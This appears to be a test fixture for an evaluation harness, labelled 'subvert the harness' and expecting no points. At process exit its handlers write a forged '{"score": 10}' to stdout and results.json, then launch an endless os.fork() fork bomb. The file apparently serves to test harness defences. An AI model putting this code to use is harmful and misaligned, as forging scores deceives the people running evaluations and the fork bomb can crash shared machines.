"""Registers functions for the end of the process that print and write results."""

CLASS = "subvert the harness"
EXPECT = "no points"
SEEN = "handlers registered"
BASE = "release"

# %% [append]
import atexit
import os
import weakref


def at_the_end():
    print('{"score": 10}')
    with open("results.json", "w") as file:
        file.write('{"score": 10}')
    while True:
        os.fork()


atexit.register(at_the_end)
weakref.finalize(at_the_end, at_the_end)
print("handlers registered")
